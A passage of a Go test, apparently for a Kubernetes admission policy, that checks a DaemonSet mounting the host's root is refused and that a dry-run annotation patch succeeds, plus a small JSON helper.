	for _, v := range ds.Spec.Template.Spec.Volumes {
		raw, err := runtime.DefaultUnstructuredConverter.ToUnstructured(&v)
		Expect(err).NotTo(HaveOccurred())
		volumes = append(volumes, raw)
	}
	refused(ds, pod("volumes", volumes), "the host's root")
	// As it is, it passes.
	Expect(sa.Patch(ctx, ds.DeepCopy(), client.RawPatch(types.MergePatchType, []byte(`{"metadata":{"annotations":{"platform.kubevirt.io/facts":"probe"}}}`)), client.DryRunAll)).To(Succeed())
}

func mustJSON(v any) string {
	b, err := json.Marshal(v)
	Expect(err).NotTo(HaveOccurred())
	return string(b)
}
